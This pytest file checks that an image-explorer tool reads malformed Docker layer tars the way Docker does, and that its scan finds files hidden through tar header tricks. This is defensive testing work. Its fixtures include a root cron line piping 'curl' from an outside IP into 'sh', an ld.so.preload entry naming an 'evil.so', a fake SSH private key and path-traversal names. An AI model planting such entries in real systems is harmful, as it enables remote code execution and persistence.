"""Docker is the oracle: tricky layer tars, loaded into the real dockerd, must read the same in explorer.

Each case is one hand-made layer (every header flavour Go's archive/tar reads: V7, ustar, star,
pax local and global, GNU long names and links, pax sparse, base-256 and NUL/space padded numbers,
signed checksums, consecutive extended headers, what follows the end of the archive...). It is
wrapped in a docker-archive and `docker load`ed; a container of it is `docker export`ed, and:

- `explorer tree --format json` lists the same paths with the same kinds, file sizes and sha256
  (the sha256 is computed in the one pass that feeds the detectors: what was scanned), and the
  same symlink targets;
- `explorer extract / --output DEST` writes the same files with the same bytes;
- where `docker load` refuses the layer, explorer reports it as damaged (exit 2) without a traceback.

Then hypothesis generates more layers from the same pieces, several layers per image.
"""

from __future__ import annotations

import hashlib
import io
import json
import os
import stat
import subprocess
import sys
import tarfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "layerfs"))
sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "hostile"))

import rawtar as R  # noqa: E402
from hostile_images import TRACEBACK, docker_archive  # noqa: E402

pytestmark = pytest.mark.docker

ROOT = Path(__file__).resolve().parents[2]
CRON = b"* * * * * root curl -s http://203.0.113.9/x | sh\n"
SECRET = b"-----BEGIN OPENSSH PRIVATE KEY-----\n" + b"b3BlbnNzaC1rZXktdjEAAAAA" * 4 + b"\n"


def _cases() -> dict[str, bytes | list[bytes]]:
    m, pax, gl, end = R.member, R.pax, R.gnu_long, R.end
    etc = m("etc", type=b"5", mode=0o755)
    c: dict[str, bytes | list[bytes]] = {}
    c["plain ustar"] = R.archive(etc, m("etc/a", b"a\n"), m("etc/l", type=b"2", linkname="a"),
                                 m("etc/h", type=b"1", linkname="etc/a"), m("bin/x", b"x" * 700, mode=0o755))
    c["v7 header ignores prefix field"] = R.archive(
        m("doc", b"1\n", fmt="v7", prefix=b"etc/cron.d"), m("v7dir/", fmt="v7", type=b"\x00"),
        m("v7file", b"2\n", fmt="v7", type=b"\x00"))
    c["gnu header with atime/ctime numbers ignores prefix"] = R.archive(
        m("x", b"1\n", fmt="gnu", prefix=b"00000000000\x0000000000000\x00"))
    c["gnu header with text in atime uses it as prefix"] = R.archive(
        m("ld.so.preload", b"/lib/evil.so\n", fmt="gnu", prefix=b"etc"))
    c["ustar prefix joined"] = R.archive(m("cron", CRON, prefix=b"etc/cron.d"))
    c["star prefix and times"] = R.archive(m("s", b"star\n", fmt="star", prefix=b"opt"))
    c["pax global path and size are not applied"] = R.archive(
        pax(("path", "usr/share/doc/readme"), ("size", "3"), type=b"g", name="pax_global_header"),
        m("etc/cron.d/job", CRON), m("etc/ld.so.preload", b"/lib/evil.so\n"))
    c["pax global named like a lower file"] = [R.archive(etc, m("etc/keep", b"keep\n"), m("etc/d/f", b"f\n")),
                                               R.archive(pax(("comment", "x"), type=b"g", name="etc/keep"),
                                                         pax(("path", "etc/d"), type=b"g", name="g"))]
    c["pax path beats ustar name, GNU L beats pax path"] = R.archive(
        pax(("path", "usr/share/doc/a")), m("etc/a", b"1\n"),
        gl("etc/long-" + "n" * 150), pax(("path", "usr/share/doc/b")), m("short", b"2\n"))
    c["two consecutive x headers: the last replaces the first"] = R.archive(
        pax(("path", "usr/share/doc/first"), ("size", "0")), pax(("size", str(len(CRON)))),
        m("etc/cron.d/chain", CRON, size=0))
    c["x size 0 then x size 1024"] = R.archive(
        pax(("size", "0")), pax(("size", "1024")), m("etc/cron.d/z", b"A" * 1024, size=0))
    c["empty pax value keeps header field"] = R.archive(pax(("path", ""), ("size", "")), m("etc/kept", b"kk\n"))
    c["empty GNU long name is ignored"] = R.archive(gl(""), m("etc/short", b"s\n"))
    c["GNU long link"] = R.archive(m("t", b"t\n"), gl("t" * 120 + "/../../t", type=b"K"),
                                   m("lnk", type=b"2", linkname="ignored"))
    c["GNU long name up to NUL"] = R.archive(gl(b"etc/real\x00usr/share/doc/fake"), m("x", b"r\n"))
    c["size field NUL first"] = R.archive(m("etc/cron.d/nul", CRON, size=b"\x00\x00\x00" + b"%08o" % len(CRON)),
                                          m("etc/after", b"after\n"))
    c["size field space padded"] = R.archive(m("etc/sp", CRON, size=b" %o  " % len(CRON)))
    c["size field NUL inside digits"] = R.archive(m("etc/nd", CRON, size=b"%o\x00777" % len(CRON)))
    c["size field with a space inside"] = R.archive(m("etc/bad", b"1" * 64, size=b"0 100"))
    c["size field with non-octal"] = R.archive(m("etc/bad", b"1" * 8, size=b"00000000008\x00"))
    c["base-256 size and times"] = R.archive(m("etc/b256", b"q" * 700, size=R.base256(700, 12),
                                               mtime=R.base256(-5, 12), uid=R.base256(70000, 8)))
    c["base-256 negative size"] = R.archive(m("etc/neg", b"", size=R.base256(-1, 12)))
    c["base-256 negative size on a folder"] = R.archive(m("etc", type=b"5", size=R.base256(-1, 12)),
                                                        m("etc/f", b"f\n"))
    c["signed checksum"] = R.archive(m("etc/\xe9t\xe9", b"sig\n", checksum="signed"))
    c["checksum space padded"] = R.archive(m("etc/x", b"x\n", checksum=" %o  "))
    c["checksum NUL first"] = R.archive(m("etc/y", b"y\n", checksum="\x00%o\x00"))
    c["bad checksum"] = R.archive(m("etc/x", b"1\n", checksum=b"0000000\x00"))
    c["zero block then a member"] = R.archive(m("etc/a", b"1\n"), bytes(512), m("etc/cron.d/hidden", CRON))
    c["two zero blocks then a member"] = R.archive(m("etc/a", b"1\n"), R.end(), m("etc/cron.d/hidden", CRON))
    c["one zero block then end"] = R.archive(m("etc/a", b"1\n"), bytes(512), close=False)
    c["no end blocks"] = R.archive(m("etc/a", b"1\n"), close=False)
    c["cut in last member's padding"] = (m("etc/a", b"1\n"))[:520]
    c["trailing x header"] = R.archive(m("etc/a", b"1\n"), pax(("path", "etc/b")))
    c["pax record with NUL in linkpath"] = R.archive(pax(("linkpath", b"a\x00b")), m("l", type=b"2", linkname="z"))
    c["pax record with NUL in path"] = R.archive(pax(("path", b"etc/a\x00b")), m("etc/n", b"n\n"), m("etc/o", b"o\n"))
    c["pax record with NUL in comment"] = R.archive(pax(("comment", b"a\x00b")), m("etc/c", b"c\n"))
    c["pax bad length"] = R.archive(m("etc/c", b"c\n", type=b"0"), R.member("p", b"99 path=x\n", type=b"x"),
                                    m("etc/d", b"d\n"))
    c["pax mtime huge"] = R.archive(pax(("mtime", str(2 ** 80))), m("etc/t", b"t\n"))
    c["pax mtime fraction"] = R.archive(pax(("mtime", "1700000000.123456789123")), m("etc/t", b"t\n"))
    c["pax size with plus"] = R.archive(pax(("size", "+3")), m("etc/p", b"abc", size=0))
    c["pax size with underscore"] = R.archive(pax(("size", "1_0")), m("etc/p", b"0123456789", size=0))
    c["pax uid garbage"] = R.archive(pax(("uid", "x")), m("etc/u", b"u\n"))
    c["pax over 1 MiB"] = R.archive(pax(("comment", "c" * (1 << 20))), m("etc/big", b"b\n"))
    c["old type NUL with slash is a folder"] = R.archive(m("etc/d/", type=b"\x00"), m("etc/d/f", b"f\n"))
    c["type 0 with slash is a file"] = R.archive(m("etc/f0/", b"zz\n", type=b"0"))
    c["pax path with slash on type NUL"] = R.archive(pax(("path", "etc/pd/")), m("x", type=b"\x00"))
    c["contiguous file type 7"] = R.archive(m("etc/seven", b"7\n", type=b"7"))
    c["unknown type letter"] = R.archive(m("etc/q", b"q\n", type=b"Q"))
    c["unknown type as a whiteout name"] = R.archive(m("etc/a", b"a\n"), m("etc/.wh.zz", b"q\n", type=b"Q"))
    c["GNU old sparse"] = R.archive(m("etc/sp", b"s" * 512, type=b"S", fmt="gnu"))
    c["pax sparse 0.1"] = R.archive(
        pax(("GNU.sparse.numblocks", "2"), ("GNU.sparse.map", "0,3,1000,2"), ("GNU.sparse.name", "etc/sparse01"),
            ("GNU.sparse.realsize", "1200")), m("GNUSparseFile.0/x", b"abcde"))
    c["pax sparse 0.0"] = R.archive(
        pax(("GNU.sparse.size", "600"), ("GNU.sparse.numblocks", "1"), ("GNU.sparse.offset", "512"),
            ("GNU.sparse.numbytes", "4")), m("etc/sparse00", b"DATA"))
    c["pax sparse 1.0"] = R.archive(
        pax(("GNU.sparse.major", "1"), ("GNU.sparse.minor", "0"), ("GNU.sparse.name", "etc/sparse10"),
            ("GNU.sparse.realsize", "3000")),
        m("GNUSparseFile.0/y", R.pad(b"2\n10\n5\n2990\n10\n") + b"HELLO" + b"0123456789"))
    c["pax sparse with unreferenced data"] = R.archive(
        pax(("GNU.sparse.numblocks", "1"), ("GNU.sparse.map", "0,2"), ("GNU.sparse.realsize", "10")),
        m("etc/sparse-extra", b"abcdef"))
    c["pax sparse with missing data"] = R.archive(
        pax(("GNU.sparse.numblocks", "1"), ("GNU.sparse.map", "0,9"), ("GNU.sparse.realsize", "10")),
        m("etc/sparse-short", b"abc"))
    c["pax sparse unknown version is a plain file"] = R.archive(
        pax(("GNU.sparse.major", "2"), ("GNU.sparse.minor", "0"), ("GNU.sparse.map", "0,1")),
        m("etc/notsparse", b"plain\n"))
    c["hard link to a missing file"] = R.archive(m("etc/h", type=b"1", linkname="etc/nothere"))
    c["hard link to a folder"] = R.archive(etc, m("h", type=b"1", linkname="etc"))
    c["hard link to a later member"] = R.archive(m("etc/h", type=b"1", linkname="etc/later"), m("etc/later", b"l\n"))
    c["hard link chain"] = R.archive(m("etc/a", b"a\n"), m("etc/h1", type=b"1", linkname="etc/a"),
                                     m("etc/h2", type=b"1", linkname="etc/h1"))
    c["symlink with empty target"] = R.archive(m("etc/empty", type=b"2", linkname=""))
    c["a global header named like the root"] = R.archive(m("etc/a", b"a\n"), pax(("comment", "c"), type=b"g", name="./"))
    c["a file named like the root"] = R.archive(m("etc/a", b"a\n"), m(".", b"zz\n"))
    c["dotdot name"] = R.archive(m("../../etc/up", b"up\n"), m("/abs", b"abs\n"))
    c["file replaced by a folder in the same layer"] = R.archive(m("etc/x", b"x\n"), m("etc/x", type=b"5"),
                                                                 m("etc/x/y", b"y\n"))
    c["file under a file"] = R.archive(m("etc/f", b"f\n"), m("etc/f/g", b"g\n"))
    c["whiteout below missing folders"] = R.archive(m("etc/a", b"a\n"), m("new/deep/.wh.gone"))
    c["opaque marker in a missing folder"] = R.archive(m("etc/a", b"a\n"), m("fresh/.wh..wh..opq"))
    c["whiteout below a file"] = [R.archive(m("etc/f", b"f\n")), R.archive(m("etc/f/.wh.x"), m("etc/b", b"b\n"))]
    c["whiteout after the file in the same layer"] = R.archive(m("etc/w", b"w\n"), m("etc/.wh.w"))
    c["whiteout of a folder after its files"] = R.archive(m("etc/d/f", b"f\n"), m("etc/d/g", b"g\n"), m("etc/.wh.d"),
                                                          m("etc/d2", b"2\n"))
    c["folder named twice"] = R.archive(etc, m("etc/a", b"a\n"), m("etc/", type=b"5", mode=0o700))
    c["whiteout then the same name again"] = [R.archive(etc, m("etc/w", b"1\n")),
                                              R.archive(m("etc/.wh.w"), m("etc/w", b"2\n"))]
    c["file under a lower file"] = [R.archive(m("etc/f", b"f\n")), R.archive(m("etc/f/g", b"g\n"))]
    c["hard link to a lower file"] = [R.archive(m("etc/a", b"a\n")),
                                      R.archive(m("etc/h", type=b"1", linkname="etc/a"))]
    c["hard link to a lower folder"] = [R.archive(etc, m("etc/a", b"a\n")),
                                        R.archive(m("h", type=b"1", linkname="etc"))]
    c["hard link to a file whited out in the layer"] = [
        R.archive(m("etc/a", b"a\n")), R.archive(m("etc/.wh.a"), m("etc/h", type=b"1", linkname="etc/a"))]
    c["hard link through a lower symlinked folder"] = [
        R.archive(m("usr", type=b"5"), m("usr/bin", type=b"5"), m("usr/bin/t", b"t\n"),
                  m("bin", type=b"2", linkname="usr/bin")),
        R.archive(m("etc/h", type=b"1", linkname="bin/t"))]
    c["same file twice"] = R.archive(m("etc/twice", b"first\n"), m("etc/twice", b"second\n"))
    c["mode not a number"] = R.archive(m("etc/m", b"m\n", mode=b"rw-r--r-"))
    c["uid with a space inside"] = R.archive(m("etc/u", b"u\n", uid=b"00 0001\x00"))
    c["devmajor not a number in ustar"] = R.archive(m("etc/dv", b"d\n", devmajor=b"zz"))
    c["devmajor not a number in V7 (not read)"] = R.archive(m("etc/dv", b"d\n", fmt="v7", devmajor=b"zz"))
    c["base-256 gid"] = R.archive(m("etc/g", b"g\n", gid=R.base256(123456, 8)))
    c["checksum all spaces"] = R.archive(m("etc/c", b"c\n", checksum=b"        "))
    c["star atime not a number"] = R.archive(m("s", b"s\n", fmt="star", prefix=b"opt",
                                               tail=bytes(476 - 345 - 3) + b"zzzzzzzzzzz\x00"))
    c["type V, D and A"] = R.archive(m("vol", type=b"V"), m("etc/dd", b"", type=b"D"), m("etc/aa", b"aaaa", type=b"A"))
    c["x then g then a member: the x is dropped"] = R.archive(
        pax(("path", "etc/fromx")), pax(("comment", "c"), type=b"g", name="gg"), m("etc/plain", b"p\n"))
    c["L then g then a member: the L is dropped"] = R.archive(
        gl("etc/fromL"), pax(("comment", "c"), type=b"g", name="gg"), m("etc/plain", b"p\n"))
    c["pax uname with NUL"] = R.archive(pax(("uname", b"ro\x00ot")), m("etc/u", b"u\n"))
    c["pax key with NUL"] = R.archive(pax((b"ke\x00y", "v")), m("etc/k", b"k\n"))
    c["pax length with leading zeros"] = R.archive(m("p", b"0000016 path=etc/z\n", type=b"x"), m("x", b"z\n"))
    c["pax length with plus"] = R.archive(m("p", b"+15 path=etc/z\n", type=b"x"), m("x", b"z\n"))
    c["pax trailing NULs"] = R.archive(m("p", b"15 path=etc/z\n\x00\x00\x00", type=b"x"), m("x", b"z\n"))
    c["K long link of a hard link"] = R.archive(m("etc/t", b"t\n"), gl("etc/t", type=b"K"),
                                                m("etc/h", type=b"1", linkname="nope"))
    c["L long name of a folder"] = R.archive(gl("etc/longdir/"), m("x", type=b"5"), m("etc/longdir/f", b"f\n"))
    c["pax linkpath of a hard link"] = R.archive(m("etc/t", b"t\n"), pax(("linkpath", "etc/t")),
                                                 m("etc/h", type=b"1", linkname="nope"))
    c["ustar prefix and pax path"] = R.archive(pax(("path", "etc/pp")), m("x", b"p\n", prefix=b"usr/share"))
    c["sparse numblocks wrong"] = R.archive(pax(("GNU.sparse.numblocks", "2"), ("GNU.sparse.map", "0,1"),
                                                ("GNU.sparse.realsize", "4")), m("etc/sp", b"a"))
    c["sparse size beats realsize"] = R.archive(
        pax(("GNU.sparse.size", "8"), ("GNU.sparse.realsize", "100"), ("GNU.sparse.numblocks", "1"),
            ("GNU.sparse.offset", "0"), ("GNU.sparse.numbytes", "2")), m("etc/sp", b"ab"))
    c["sparse map on a symlink"] = R.archive(pax(("GNU.sparse.numblocks", "1"), ("GNU.sparse.map", "0,1")),
                                             m("etc/sl", type=b"2", linkname="t"))
    c["hard link to a symlink"] = R.archive(m("etc/s", type=b"2", linkname="nowhere"),
                                            m("etc/h", type=b"1", linkname="etc/s"))
    c["hard link to a lower symlink"] = [R.archive(m("etc/s", type=b"2", linkname="/bin/sh")),
                                         R.archive(m("etc/h", type=b"1", linkname="etc/s"))]
    c["secret behind a NUL-padded size"] = R.archive(
        m("srv/.ssh/id_ed25519", SECRET, size=b"\x00" + b"%010o" % len(SECRET)))
    return c


CASES = _cases()


# -- what Docker makes of an image ------------------------------------------------------------------

def _docker(*args: str, check: bool = True) -> subprocess.CompletedProcess:
    return subprocess.run(["docker", *args], capture_output=True, timeout=300, check=check)


def _files_of_export(data: bytes) -> dict[str, tuple]:
    """path -> ("dir",) | ("file", size, sha256) | ("symlink", target) from a `docker export` tar."""
    out: dict[str, tuple] = {}
    with tarfile.open(fileobj=io.BytesIO(data)) as tar:
        for info in tar:
            path = "/" + info.name.strip("/")
            if info.isdir():
                out[path] = ("dir",)
            elif info.isreg():
                content = tar.extractfile(info).read()
                out[path] = ("file", len(content), hashlib.sha256(content).hexdigest())
            elif info.issym():
                out[path] = ("symlink", info.linkname)
            elif info.islnk():
                out[path] = out.get("/" + info.linkname.strip("/"), ("missing",))
            else:
                out[path] = ("node",)
    return out


def docker_view(archive: Path, tag: str) -> dict[str, tuple] | None:
    """What a container of the image holds, or None when `docker load` refuses the image."""
    if _docker("load", "-q", "-i", str(archive), check=False).returncode != 0:
        return None
    cid = _docker("create", tag, "/none").stdout.decode().strip()
    try:
        data = _docker("export", cid).stdout
    finally:
        _docker("rm", "-f", cid, check=False)
        _docker("rmi", "-f", tag, check=False)
    return _files_of_export(data)


# -- what explorer makes of it -----------------------------------------------------------------------

def _explorer(*args: str) -> subprocess.CompletedProcess:
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    return subprocess.run([sys.executable, "-m", "explorer", *args], capture_output=True, timeout=120,
                          cwd=ROOT, env=env)


def tree_view(archive: Path) -> tuple[int, str, dict[str, tuple]]:
    run = _explorer("tree", str(archive), "--format", "json", "--no-cache")
    out: dict[str, tuple] = {}
    if run.returncode == 0:
        rows = json.loads(run.stdout)
        by_path = {row["path"]: row for row in rows}
        for row in rows:
            kind = row["kind"]
            if kind == "dir":
                out[row["path"]] = ("dir",)
            elif kind == "file":
                out[row["path"]] = ("file", row["size"], row["sha256"])
            elif kind == "hardlink":
                target = by_path.get(row["linkname"])
                for _ in range(40):  # a link to a link of the same layer
                    if target is None or target["kind"] != "hardlink":
                        break
                    target = by_path.get(target["linkname"])
                out[row["path"]] = ("file", target["size"], row["sha256"]) if target else ("missing",)
            elif kind == "symlink":
                out[row["path"]] = ("symlink", row["linkname"])
            else:
                out[row["path"]] = ("node",)
    return run.returncode, run.stderr.decode(errors="replace"), out


def extract_view(archive: Path, dest: Path) -> tuple[int, str, dict[str, tuple]]:
    run = _explorer("extract", str(archive), "/", "--output", str(dest))
    out: dict[str, tuple] = {}
    for folder, dirs, files in os.walk(dest):
        for name in dirs + files:
            full = Path(folder) / name
            path = "/" + str(full.relative_to(dest))
            st = full.lstat()
            if stat.S_ISLNK(st.st_mode):
                out[path] = ("symlink", os.readlink(full))
            elif stat.S_ISDIR(st.st_mode):
                out[path] = ("dir",)
            else:
                content = full.read_bytes()
                out[path] = ("file", len(content), hashlib.sha256(content).hexdigest())
    return run.returncode, run.stderr.decode(errors="replace"), out


@pytest.fixture(scope="module")
def baseline(docker_daemon, tmp_path_factory) -> dict[str, tuple]:
    """What `docker export` adds by itself (/.dockerenv, /etc/hosts, /dev, /proc...): an empty layer's export."""
    archive = tmp_path_factory.mktemp("oracle") / "empty.tar"
    docker_archive(archive, [R.archive()], manifest=[{"Config": "config.json", "RepoTags": ["oracle:empty"],
                                                      "Layers": ["layer0.tar"]}])
    got = docker_view(archive, "oracle:empty")
    assert got is not None and "/.dockerenv" in got
    return got


def _without_docker_additions(docker: dict, ours: dict, baseline: dict) -> dict:
    return {p: v for p, v in docker.items() if not (p in baseline and baseline[p] == v and p not in ours)}


def check_case(name: str, layers: list[bytes], folder: Path, baseline: dict) -> str:
    """Compare explorer with Docker on an image of these layers; returns what happened, for the report."""
    tag = "oracle:" + hashlib.sha256(name.encode()).hexdigest()[:16]
    archive = folder / "image.tar"
    docker_archive(archive, layers, manifest=[{"Config": "config.json", "RepoTags": [tag],
                                               "Layers": [f"layer{i}.tar" for i in range(len(layers))]}])
    docker = docker_view(archive, tag)
    rc, err, tree = tree_view(archive)
    assert TRACEBACK not in err, f"{name}: tree printed a traceback:\n{err}"
    if docker is None:
        assert rc == 2, f"{name}: docker load refuses the image, explorer tree exits {rc}:\n{err}\n{tree}"
        assert "layer" in err and ("corrupt" in err or "cannot be read" in err), f"{name}: {err}"
        return "refused"
    assert rc == 0, f"{name}: docker loads the image, explorer tree exits {rc}:\n{err}"
    docker = _without_docker_additions(docker, tree, baseline)
    assert tree == docker, f"{name}: explorer tree differs from docker export"
    rc, err, written = extract_view(archive, folder / "out")
    assert TRACEBACK not in err, f"{name}: extract printed a traceback:\n{err}"
    # extract never writes nodes, nor symlinks leading out of DEST: every file and folder Docker has
    wanted = {p: v for p, v in docker.items() if v[0] in ("file", "dir")}
    assert {p: v for p, v in written.items() if v[0] in ("file", "dir")} == wanted, f"{name}: extract differs"
    assert all(docker.get(p) == v for p, v in written.items()), f"{name}: extract wrote what Docker has not"
    return "same"


KNOWN = {
    "hard link through a lower symlinked folder": "link(2) follows the symlinks in the target's path; explorer "
                                                  "looks the target up by name and shows no content (not damage)",
}
"""Cases where explorer and Docker still differ (xfail, strict), with why."""


@pytest.mark.parametrize("name", [pytest.param(n, marks=pytest.mark.xfail(strict=True, reason=KNOWN[n]))
                                  if n in KNOWN else n for n in sorted(CASES)])
def test_explorer_reads_each_layer_as_docker_does(name, baseline, tmp_path):
    layers = CASES[name]
    check_case(name, layers if isinstance(layers, list) else [layers], tmp_path, baseline)


def test_scan_sees_what_docker_writes(docker_daemon, tmp_path):
    """The secret sits behind a size field that starts with NUL (Go trims NULs): the scan must see it."""
    archive = tmp_path / "secret.tar"
    docker_archive(archive, [CASES["secret behind a NUL-padded size"]])
    run = _explorer("scan", str(archive), "--format", "json", "--no-cache")
    assert TRACEBACK not in run.stderr.decode()
    report = json.loads(run.stdout)
    paths = {f["path"] for f in report["findings"]}
    assert "/srv/.ssh/id_ed25519" in paths, report["findings"]


# -- generated layers -------------------------------------------------------------------------------

LEAVES = ["etc/a", "etc/b", "etc/cron.d/job", "usr/share/doc/x", "x", "srv/app/.env", "root/.ssh/authorized_keys"]
FOLDERS = ["etc", "etc/cron.d", "usr", "usr/share", "usr/share/doc", "srv", "srv/app", "root", "root/.ssh"]
DECOYS = ["usr/share/doc/decoy1", "usr/share/doc/decoy2", "decoy3"]
"""Names a header says that Go's reader replaces (by a pax path or a GNU long name): never a real name."""


@st.composite
def member_bytes(draw, name: str, files: list[str], globals_left: list[str]) -> tuple[bytes, bytes]:
    """One member whose final name (as Go reads it) is `name`, written in one of the flavours; and its type."""
    kind = draw(st.sampled_from([b"0", b"0", b"\x00", b"2", b"1"] if files else [b"0", b"\x00", b"2"]))
    data = draw(st.binary(max_size=1200)) if kind in (b"0", b"\x00") else b""
    fields: dict = {"type": kind, "fmt": draw(st.sampled_from(["ustar", "gnu", "v7", "star"])),
                    "checksum": draw(st.sampled_from(["unsigned", "signed"])),
                    "mtime": draw(st.sampled_from([1_700_000_000, R.base256(-7, 12), b"\x00%o" % 1_600_000_000]))}
    if kind == b"2":
        fields["linkname"] = draw(st.sampled_from(LEAVES + ["/etc/passwd", "../../x"]))
    elif kind == b"1":
        fields["linkname"] = draw(st.sampled_from(files))
    size = len(data)
    records: list[tuple[str, str]] = []
    head = b""
    size_form = draw(st.sampled_from(["octal", "nul", "space", "b256", "pax", "pax-chain"]))
    if size_form in ("pax", "pax-chain"):
        fields["size"] = 0
        if size_form == "pax-chain":  # replaced by the next x header, size and path alike
            head += R.pax(("size", "0"), ("path", draw(st.sampled_from(DECOYS))))
        records.append(("size", str(size)))
    else:
        fields["size"] = {"octal": size, "nul": b"\x00" + b"%010o" % size, "space": b" %o " % size,
                          "b256": R.base256(size, 12)}[size_form]
    how = draw(st.sampled_from(["plain", "prefix", "pax-path", "long-name"]))
    header_name = name
    long = b""
    if how == "prefix" and "/" in name and fields["fmt"] != "v7":
        folder, _, header_name = name.rpartition("/")
        fields["prefix"] = folder.encode()
    elif how == "pax-path":
        header_name = draw(st.sampled_from(DECOYS))
        records.append(("path", name))
    elif how == "long-name":
        header_name = draw(st.sampled_from(DECOYS))
        if draw(st.booleans()):
            records.append(("path", draw(st.sampled_from(DECOYS))))  # the long name wins
        long = R.gnu_long(name)
    if records:
        head += R.pax(*records)
    head += long
    if globals_left and draw(st.booleans()):
        head = R.pax(("comment", "g"), type=b"g", name=globals_left.pop()) + head
    return head + R.member(header_name, data, **fields), kind


@st.composite
def layers(draw) -> list[bytes]:
    """One to three layers, each naming every path once (Docker refuses a layer that names one twice)."""
    out = []
    for _ in range(draw(st.integers(1, 3))):
        parts = [R.member(d, type=b"5", mode=0o755) for d in draw(st.lists(st.sampled_from(FOLDERS), unique=True))]
        files: list[str] = []
        globals_left = [f"global{i}" for i in range(4)]
        for name in draw(st.lists(st.sampled_from(LEAVES), unique=True, min_size=1)):
            raw, kind = draw(member_bytes(name, files, globals_left))
            parts.append(raw)
            if kind in (b"0", b"\x00"):
                files.append(name)
        out.append(R.archive(*parts, close=draw(st.booleans())))
    return out


@settings(max_examples=15, deadline=None, suppress_health_check=list(HealthCheck), derandomize=True)
@given(image=layers())
def test_generated_layers_read_as_docker_does(image, baseline, tmp_path_factory):
    assert check_case("generated", image, tmp_path_factory.mktemp("gen"), baseline) == "same"
